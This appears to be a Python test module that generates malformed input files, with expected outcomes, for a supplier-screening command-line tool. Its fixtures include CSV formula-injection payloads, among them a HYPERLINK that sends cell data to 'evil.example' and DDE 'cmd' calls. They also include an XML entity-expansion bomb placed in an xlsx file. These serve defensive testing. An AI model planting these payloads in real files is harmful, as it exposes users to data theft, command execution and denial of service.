"""A generated corpus of malformed and awkward input files, each with the outcome it must have.

Every case is built by code here (nothing binary is committed): encodings, CSV dialects, stray
quotes, truncation, huge fields, wrong types, archives, spreadsheets, JSON forms and formula
payloads. Each case states either the exact number of output records ``laborlens screen`` must
write, or that it must refuse the file (exit 2, one line naming the file).

Write the corpus to a folder to try it by hand:

    python tests/reliability/corpus.py /tmp/corpus
"""

from __future__ import annotations

import bz2
import csv
import gzip
import io
import json
import lzma
import re
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

NAMES = [
    "Xinjiang Daqo New Energy Co., Ltd.",
    "Guangzhou Pearl River Garment Co. Ltd",
    "新疆大全新能源股份有限公司",
    "Ningbo Harbour Trading Co., Ltd.",
    "Shenzhen Bright Toys Factory",
]
ADDRESSES = [
    "Shihezi, Xinjiang",
    "Panyu, Guangzhou",
    "新疆石河子市",
    "12 Harbour Rd, Ningbo",
    "Shenzhen",
]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


@dataclass(frozen=True)
class Case:
    """One corpus file and what screening it must give.

    Attributes:
        name: the file name (its suffix picks the reader).
        build: writes the file.
        rows: exact output records; ``None`` when the file must be refused.
        refusal: a regex the refusal message must match.
        args: extra ``laborlens screen`` arguments.
        error_rows: exact number of output records that carry errors (when given).
        text: strings that must appear in the JSON Lines or CSV output.
        stderr: a regex that stderr must match (warnings).
    """

    name: str
    build: Callable[[Path], None]
    rows: int | None
    refusal: str = ""
    args: tuple[str, ...] = ()
    error_rows: int | None = None
    text: tuple[str, ...] = ()
    stderr: str = ""


def _table(n: int, extra: Callable[[int], list[str]] | None = None) -> list[list[str]]:
    head = ["id", "name", "address", "country", "buyer"]
    rows = [
        [f"S-{i}", NAMES[i % 5], ADDRESSES[i % 5], "CN", f"buyer {i}"] + (extra(i) if extra else [])
        for i in range(1, n + 1)
    ]
    return [head + (["notes"] if extra else []), *rows]


def _csv_text(rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return out.getvalue()


def _text(content: str, encoding: str = "utf-8", prefix: bytes = b"") -> Callable[[Path], None]:
    return lambda p: p.write_bytes(prefix + content.encode(encoding))


def _raw(content: bytes) -> Callable[[Path], None]:
    return lambda p: p.write_bytes(content)


def _packed(opener: Callable[[bytes], bytes], content: str) -> Callable[[Path], None]:
    return lambda p: p.write_bytes(opener(content.encode("utf-8")))


def _zip(members: dict[str, bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        with zipfile.ZipFile(path, "w") as archive:
            for name, data in members.items():
                archive.writestr(name, data)

    return build


PLAIN = _csv_text(_table(5))


# --- CSV dialects and structure -----------------------------------------------------------


def _stray_quote(n: int, at: tuple[int, ...]) -> str:
    lines = PLAIN.splitlines()[:1]
    for i in range(1, n + 1):
        name = f'"Supplier {i} Ltd' if i in at else f"Supplier {i} Ltd"
        lines.append(f"S-{i},{name},Ningbo,CN,buyer")
    return "\n".join(lines) + "\n"


CSV_CASES = [
    Case("plain.csv", _text(PLAIN), 5, error_rows=0, text=("新疆大全新能源股份有限公司",)),
    Case("crlf.csv", _text(_csv_text(_table(5), newline="\r\n")), 5, error_rows=0),
    Case("cr_only.csv", _text(_csv_text(_table(5), newline="\r")), 5, error_rows=0),
    Case("semicolon.csv", _text(_csv_text(_table(5), ";")), 5, error_rows=0),
    Case("tabs.txt", _text(_csv_text(_table(5), "\t")), 5, error_rows=0),
    Case("pipes.csv", _text(_csv_text(_table(5), "|")), 5, error_rows=0),
    Case("tabs.tsv", _text(_csv_text(_table(5), "\t")), 5, error_rows=0),
    Case("bom.csv", _text(PLAIN, "utf-8-sig"), 5, error_rows=0),
    Case("title_rows.csv", _text("Supplier master\nExported 2026-01-05\n\n" + PLAIN), 5),
    Case("blank_lines.csv", _text(PLAIN.replace("\nS-3", "\n\n,,,,\n  \nS-3")), 5, error_rows=0),
    Case(
        "multiline_cell.csv",
        _text(PLAIN.replace("Panyu, Guangzhou", "Room 5\nBuilding 3\nPanyu")),
        5,
        error_rows=0,
    ),
    Case(
        "stray_quote_early.csv",
        _text(_stray_quote(1000, (2,))),
        1000,
        error_rows=1,
        text=("line 3: a quoted field opens here but it is never closed",),
    ),
    # two quotes opening fields: each is a stray quote, each row says so
    Case("stray_quote_pair.csv", _text(_stray_quote(50, (5, 20))), 50, error_rows=2),
    # a stray opening quote "closed" by a quote inside a later field
    Case(
        "stray_quote_closed_later.csv",
        _text(_stray_quote(50, (5,)).replace("Supplier 20 Ltd", 'Supplier 20 "Best" Ltd')),
        50,
        error_rows=1,
        text=("line 6: a quoted field opens here but the quote that ends it, on line 21",),
    ),
    Case(
        "unclosed_last.csv",
        _text(PLAIN + 'S-6,"Last Supplier Ltd,Ningbo,CN,b'),
        6,
        error_rows=1,
    ),
    Case("quote_mid_field.csv", _text(PLAIN.replace("Shenzhen Bright", 'Shenzhen "Bright"')), 5),
    Case("doubled_quotes.csv", _text('name,address\n"Foo ""Big"" Ltd",x\n"A, B and C",y\n'), 2),
    Case(
        "ragged.csv",
        _text("id,name,address\n1,Foo Ltd\n2,Bar Ltd,Ningbo,extra,more\n3,Baz Ltd,Ningbo\n"),
        3,
        error_rows=1,
    ),
    Case("header_only.csv", _text("id,name,address\n"), None, "header row but no data rows"),
    Case("empty.csv", _raw(b""), None, "the file is empty"),
    Case("whitespace.csv", _raw(b"  \n\t\n\n"), None, "the file is empty"),
    Case("no_column.csv", _text("buyer,spend\nAnn,1\n"), None, "no column to screen"),
    Case("duplicate_headers.csv", _text("name,name,address\nFoo,Bar,x\nBaz,Qux,y\n"), 2),
    Case("blank_headers.csv", _text("name,,\nFoo,1,2\nBar,3,4\n"), 2),
    Case("nul_byte.csv", _text("name,address\nFoo\x00 Ltd,x\nBar,y\n"), 2, error_rows=1),
    Case(
        "huge_field.csv",
        lambda p: p.write_text("name,address\nFoo,x\nBar," + "y" * 17_000_000 + "\nBaz,z\n"),
        3,
        error_rows=1,
        text=("line 3: not valid CSV",),
    ),
    Case(
        "long_cell.csv", _text("name,address\nFoo," + "z" * 100_000 + "\nBar,y\n"), 2, error_rows=1
    ),
    Case(
        "wide.csv",
        _text(
            ",".join(["name"] + [f"c{i}" for i in range(2000)])
            + "\n"
            + ",".join(["Foo"] + ["1"] * 2000)
            + "\n"
        ),
        1,
    ),
    Case("no_final_newline.csv", _text(PLAIN.rstrip("\n")), 5, error_rows=0),
    Case("trailing_delimiters.csv", _text(PLAIN.replace("\n", ",,\n")), 5),
    Case("injection.csv", _text(_csv_text([["name", "notes"], *([p, p] for p in PAYLOADS)])), 5),
    Case(
        "wrong_types.csv",
        _text("name,lat,lon,hs_code\nFoo,north,87.6,abc\nBar,91,87.6,6109\nBaz,43.8,,x\n"),
        3,
        error_rows=3,
    ),
    Case(
        "control_chars.csv", _text("name,address\nFoo\x07Ltd,x\x1b[31m\nBar,y\n"), 2, error_rows=1
    ),
]


# --- encodings ----------------------------------------------------------------------------

SPANISH = "name,address,country\nNUÑEZ Y CIA SA,Calle de la Peña 5,ES\nFoo Ltd,Shanghai,CN\n"
LATE_BAD = (
    "name,notes\n" + "".join(f"Supplier {i},{'n' * 4000}\n" for i in range(300))
).encode() + b"Bad \xff Co,x\nLast Ltd,y\n"

ENCODING_CASES = [
    Case("gbk.csv", _text(PLAIN, "gbk"), 5, error_rows=0, text=("新疆大全新能源股份有限公司",)),
    Case("gb18030.csv", _text(PLAIN, "gb18030"), 5, error_rows=0),
    Case("utf16le_bom.csv", _text(PLAIN, "utf-16"), 5, error_rows=0),
    Case("utf16be_bom.csv", _text(PLAIN, "utf-16-be", b"\xfe\xff"), 5, error_rows=0),
    Case("utf16le_nobom.csv", _text(PLAIN, "utf-16-le"), 5, error_rows=0),
    Case("utf32.csv", _text(PLAIN, "utf-32"), 5, error_rows=0),
    Case(
        "latin1_spanish.csv",
        _text(SPANISH, "latin-1"),
        2,
        error_rows=0,
        text=("NUÑEZ Y CIA SA",),
        stderr=r"encoding is a guess: read as cp1252.*line 2",
    ),
    Case(
        "cp1252_french.csv",
        _text(
            "name,address\nCafé Société Générale SA,Rue de l'Église 12\nMüller GmbH,Köln\n",
            "cp1252",
        ),
        2,
        error_rows=0,
        text=("Café Société Générale SA",),
    ),
    Case(
        "damaged_utf8.csv",
        lambda p: p.write_bytes(PLAIN.encode().replace(b"Ningbo", b"Ningb\xf6")),
        5,
        error_rows=1,
        text=("新疆大全新能源股份有限公司",),
        stderr=r"line 4: bytes that are not valid UTF-8",
    ),
    Case("bad_byte_late.csv", _raw(LATE_BAD), 302, error_rows=1),
    Case(
        "big5.csv",
        _text("name,address\n台灣積體電路製造股份有限公司,新竹\n", "big5"),
        1,
        args=("--encoding", "big5"),
        text=("台灣積體電路製造股份有限公司",),
    ),
    Case(
        "forced_wrong.csv",
        _text(PLAIN, "gbk"),
        None,
        r"line 3: bytes that are not valid utf-8",
        args=("--encoding", "utf-8"),
    ),
    Case(
        "unknown_encoding.csv",
        _text(PLAIN),
        None,
        "unknown encoding 'klingon'",
        args=("--encoding", "klingon"),
    ),
    Case("binary.csv", _raw(bytes(range(256)) * 64), None, "no column to screen|encoding"),
]


# --- archives -------------------------------------------------------------------------------

ARCHIVE_CASES = [
    Case("packed.csv.gz", _packed(gzip.compress, PLAIN), 5, error_rows=0),
    Case(
        "cut.csv.gz",
        lambda p: p.write_bytes(gzip.compress(PLAIN.encode())[:40]),
        None,
        "cut.csv.gz: (cannot read|unreadable)",
    ),
    Case(
        "cut_big.json.gz",
        lambda p: p.write_bytes(
            gzip.compress(
                json.dumps([{"name": f"S {i}", "n": "x" * 200} for i in range(20000)]).encode()
            )[:40_000]
        ),
        None,
        "cut_big.json.gz: cannot read: Compressed file ended",
    ),
    Case("packed.csv.bz2", _packed(bz2.compress, PLAIN), 5, error_rows=0),
    Case("packed.csv.xz", _packed(lzma.compress, PLAIN), 5, error_rows=0),
    Case(
        "packed.jsonl.gz",
        _packed(gzip.compress, "\n".join(json.dumps({"name": n}) for n in NAMES) + "\n"),
        5,
    ),
    Case("one.zip", _zip({"suppliers.csv": PLAIN.encode()}), 5, error_rows=0),
    Case(
        "many.zip",
        _zip({"a.csv": b"name\nFoo\n", "b.csv": b"name\nBar\n"}),
        None,
        "exactly one file",
    ),
    Case("xlsx_inside.zip", _zip({"s.xlsx": b"PK"}), None, "cannot be read from the archive"),
    Case("not_gzip.csv.gz", _text(PLAIN), None, r"not_gzip.csv.gz: cannot read"),
    Case("garbage.zip", _raw(b"this is not a zip"), None, "not a readable .zip"),
    Case("book.xlsx.gz", _raw(b"x"), None, "cannot be compressed"),
    Case("bundle.tar.gz", _raw(b"x"), None, "unsupported file type '.tar'"),
    Case("legacy.xls", _raw(b"\xd0\xcf\x11\xe0"), None, "legacy .xls"),
]


# --- spreadsheets ---------------------------------------------------------------------------


def _book(
    sheets: dict[str, list[list[object]]],
    fix: Callable[[bytes], bytes] | None = None,
    part: str = "xl/worksheets/sheet",
) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        from openpyxl import Workbook

        book = Workbook()
        book.remove(book.active)
        for title, rows in sheets.items():
            sheet = book.create_sheet(title)
            for row in rows:
                sheet.append(row)
        book.save(path)
        if fix is not None:
            _rewrite_parts(path, fix, part)

    return build


def _rewrite_parts(path: Path, fix: Callable[[bytes], bytes], part: str) -> None:
    with zipfile.ZipFile(path) as src:
        parts = {i.filename: src.read(i.filename) for i in src.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in parts.items():
            dst.writestr(name, fix(data) if name.startswith(part) else data)


def _merged(path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["Supplier master 2026", None, None])
    sheet.merge_cells("A1:C1")
    for row in _table(5):
        sheet.append(row[:3])
    sheet.merge_cells("B3:C3")  # a merged data cell
    book.save(path)


_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)


def _entity_bomb(xml: bytes) -> bytes:
    """A sheet with an entity-expansion ("billion laughs") header in front of its XML."""
    body = re.sub(rb"^<\?xml[^>]*\?>", b"", xml)
    return _BOMB + body.replace(b"<t>", b"<t>&c;", 1)


TABLE: list[list[object]] = [list(r) for r in _table(5)]
NOTES: list[list[object]] = [["This workbook lists our suppliers"], ["see sheet 2"]]

SHEET_CASES = [
    Case("simple.xlsx", _book({"Sheet1": TABLE}), 5, error_rows=0),
    Case(
        "data_second.xlsx",
        _book({"Notes": NOTES, "Suppliers": TABLE}),
        5,
        stderr=r"read sheet 'Suppliers' \(2 of 2",
    ),
    Case(
        "sheet_by_number.xlsx",
        _book({"Notes": NOTES, "Suppliers": TABLE}),
        5,
        args=("--sheet", "2"),
    ),
    Case("sheet_by_name.xlsx", _book({"A": TABLE, "B": TABLE[:3]}), 2, args=("--sheet", "b")),
    Case(
        "sheet_missing.xlsx",
        _book({"A": TABLE}),
        None,
        r"--sheet Nope: no such sheet.*'A'",
        args=("--sheet", "Nope"),
    ),
    Case("no_header_sheet.xlsx", _book({"A": NOTES, "B": NOTES}), None, "no column to screen"),
    Case("empty.xlsx", _book({"Sheet": []}), None, "sheet 'Sheet' is empty"),
    Case("header_only.xlsx", _book({"Sheet": TABLE[:1]}), None, "header row but no data rows"),
    Case("merged.xlsx", _merged, 5),
    Case(
        "formulas.xlsx",
        _book(
            {"S": [["name", "address"], ["Foo Ltd", '="Ning"&"bo"'], ['=UPPER("bar ltd")', "x"]]}
        ),
        2,
        error_rows=2,
    ),
    Case(
        "wrong_dimension.xlsx",
        _book(
            {"S": TABLE}, lambda b: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:A1"', b)
        ),
        5,
        error_rows=0,
    ),
    Case("blank_rows.xlsx", _book({"S": [TABLE[0], [None] * 5, *TABLE[1:3], [], *TABLE[3:]]}), 5),
    Case(
        "types.xlsx",
        _book(
            {
                "S": [
                    ["name", "hs_code", "lat", "lon", "since"],
                    ["Foo", 520812, 43.8, 87.6, None],
                    ["Bar", 6109.1, None, None, True],
                ]
            }
        ),
        2,
    ),
    Case("fake.xlsx", _text("name\nFoo\n"), None, "not a readable .xlsx"),
    Case(
        "cut_sheet.xlsx",
        _book({"S": TABLE * 3}, lambda b: b[: len(b) // 2]),
        None,
        r"cut_sheet.xlsx: (not a readable .xlsx|unreadable after row \d+)",
    ),
    Case(
        "garbled_sheet.xlsx",
        _book({"S": TABLE}, lambda b: b.replace(b'<row r="2"', b'<row r="2"<<')),
        None,
        r"garbled_sheet.xlsx: (not a readable .xlsx|unreadable after row \d+)",
    ),
    Case(
        "xml_bomb.xlsx",
        _book({"S": TABLE}, _entity_bomb),
        None,
        r"xml_bomb.xlsx: not a readable .xlsx",
    ),
    Case("injection.xlsx", _book({"S": [["name", "notes"], *([p, p] for p in PAYLOADS)]}), 5),
]


# --- JSON -----------------------------------------------------------------------------------

OBJECTS = [{"id": f"S-{i}", "name": NAMES[i % 5], "address": ADDRESSES[i % 5]} for i in range(5)]

JSON_CASES = [
    Case("array.json", _text(json.dumps(OBJECTS)), 5, error_rows=0),
    Case("array_pretty.json", _text(json.dumps(OBJECTS, indent=2, ensure_ascii=False)), 5),
    Case(
        "wrapped.json",
        _text(json.dumps({"meta": {"n": 5}, "suppliers": OBJECTS}, indent=1)),
        5,
        stderr="rows read from the array 'suppliers'",
    ),
    Case("one_object.json", _text(json.dumps({"name": "Foo Ltd", "aliases": ["F", "G"]})), 1),
    Case("ndjson_named.json", _text("\n".join(json.dumps(o) for o in OBJECTS) + "\n"), 5),
    Case("mixed_array.json", _text(json.dumps([*OBJECTS, 3, "x"])), 7, error_rows=2),
    Case("empty_array.json", _text("[]"), None, "the file has no rows"),
    Case(
        "syntax_error.json",
        _text('[\n {"name": "Foo"},\n {"name": "Bar",}\n]'),
        None,
        r"line 3, column \d+: not valid JSON",
    ),
    Case("truncated.json", _text(json.dumps(OBJECTS, indent=1)[:-40]), None, r"line \d+, column"),
    Case("scalar.json", _text('"just text"'), None, "expected a JSON array of objects"),
    Case(
        "huge_number.json",
        _text('[{"name": "Foo", "n": ' + "9" * 5000 + "}]"),
        None,
        "not usable JSON",
    ),
    Case(
        "nested_values.json",
        _text(
            json.dumps(
                [{"name": "Foo", "meta": {"a": [1, {"b": 2}]}}, {"name": "Bar", "tags": ["x", "y"]}]
            )
        ),
        2,
    ),
    Case(
        "lines.jsonl",
        _text("\n".join(json.dumps(o) for o in OBJECTS) + "\n{bad\n[1]\n"),
        7,
        error_rows=2,
    ),
    Case("empty.jsonl", _text("\n\n"), None, "the file is empty"),
    Case(
        "huge_number.jsonl",
        _text('{"name": "Foo"}\n{"name": 1' + "2" * 5000 + "}\n"),
        2,
        error_rows=1,
    ),
]


# --- Parquet --------------------------------------------------------------------------------


def _parquet(rows: int) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        import pyarrow as pa
        import pyarrow.parquet as pq

        pq.write_table(
            pa.table({"name": [f"Supplier {i}" for i in range(rows)], "spend": list(range(rows))}),
            path,
        )

    return build


PARQUET_CASES = [
    Case("table.parquet", _parquet(5), 5, error_rows=0),
    Case("empty.parquet", _parquet(0), None, "no data rows"),
    Case("broken.parquet", _raw(b"PAR1 not really"), None, "not a readable Parquet"),
]

CASES: list[Case] = [
    *CSV_CASES,
    *ENCODING_CASES,
    *ARCHIVE_CASES,
    *SHEET_CASES,
    *JSON_CASES,
    *PARQUET_CASES,
]


def build(folder: Path) -> list[tuple[Case, Path]]:
    """Write every case into ``folder``; (case, path) pairs."""
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for case in CASES:
        path = folder / case.name
        case.build(path)
        out.append((case, path))
    return out


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus")
    for case, path in build(target):
        outcome = f"{case.rows} records" if case.rows is not None else f"refused: {case.refusal}"
        print(f"{path}  ->  {outcome}")
